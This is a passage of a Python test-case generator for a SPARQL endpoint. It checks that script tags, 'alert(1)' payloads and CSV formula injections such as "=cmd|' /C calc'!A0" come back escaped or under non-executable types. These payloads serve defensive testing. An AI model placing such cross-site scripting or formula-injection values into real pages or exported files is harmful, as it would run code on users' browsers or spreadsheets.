        query = f"SELECT ?onload ?script WHERE {{ VALUES (?onload ?script) {{ ({term} 1) }} }}"
        if "<<" in term:
            query = f"SELECT ?onload WHERE {{ BIND ({term} AS ?onload) }}"
        yield by_get(f"{name} on a page", OUTPUT, query, TEXT_HTML, statuses=REFUSED, shows=words,
                     escaped="<script>")  # fmt: skip
    for path in ("/id/place/xx-hostile", "/graph/reference", "/id/place/xx-hostile?lang=ko"):
        yield Case(f"a hostile thing at {path}", OUTPUT, (), path=path, headers=BROWSER,
                   shows="alert(1)", absent=(SCRIPT, "<img"))  # fmt: skip


def data() -> Iterator[Case]:
    """The same as data: as it is, under a type that no browser runs."""
    values = f'VALUES ?x {{ "{SCRIPT}" }}'
    answers = {
        "csv": f"x\r\n{SCRIPT}\r\n",
        "tsv": f'?x\n"{SCRIPT}"\n',
        "json": '{"head":{"vars":["x"]},"results":{"bindings":[{"x":{"type":"literal",'
        f'"value":"{SCRIPT}"}}}}]}}}}',
        "xml": f'<?xml version="1.0"?><sparql xmlns="{RESULTS}"><head><variable name="x"/></head>'
        '<results><result><binding name="x"><literal>&lt;script&gt;alert(1)&lt;/script&gt;'
        "</literal></binding></result></results></sparql>",
    }
    for syntax, answer in answers.items():
        query = f"SELECT ?x WHERE {{ {values} }}"
        yield by_get(f"a script as {syntax}", OUTPUT, query, ("format", syntax), statuses=(),
                     answer=answer)  # fmt: skip
    for name, text in {
        "a formula": "=cmd|' /C calc'!A0",
        "a sum": "+1+1",
        "a function": "@SUM(1)",
        "a tab": "\tx",
    }.items():
        query = f'SELECT ?x WHERE {{ BIND ("{text}" AS ?x) }}'
        yield by_form(f"{name} as csv", OUTPUT, query, CSV, statuses=(), answer=f"x\r\n{text}\r\n")
    quotes = "SELECT ?x WHERE { BIND ('a\",\"b\\r\\nc' AS ?x) }"
    yield by_form("a torn cell as csv", OUTPUT, quotes, CSV, statuses=(),
                  answer='x\r\n"a"",""b\r\nc"\r\n')  # fmt: skip
    triple = f'CONSTRUCT {{ <urn:a> <urn:b> "{SCRIPT}" }} WHERE {{}}'
    yield by_form("a script as ntriples", OUTPUT, triple, ("format", "nt"), statuses=(),
                  answer=f'<urn:a> <urn:b> "{SCRIPT}" .\n')  # fmt: skip
    for accept in ("*/*", "application/problem+json", "text/plain", "text/html"):
        path = f"/sparql?query=ASK+{{}}&format={quote(SCRIPT)}"
        yield Case(f"an error as {accept}", OUTPUT, REFUSED, path=path,
                   headers=(("Accept", accept),))  # fmt: skip


RESULTS = "http://www.w3.org/2005/sparql-results#"

FAMILIES = (NETWORK, DEATH, PROTOCOL, OUTPUT)
CASES = [
    *services(), *data_sets(), *updates(), *writes(),
    *deaths(), *streams(), *long_pages(), *growths(), *plans(), *nestings(), *expressions(),
    *encodings(), *parameters(), *bodies(), *headers(), *hosts(), *lines(), *smuggling(), *paths(),
    *pages(), *terms(), *data(),
]  # fmt: skip
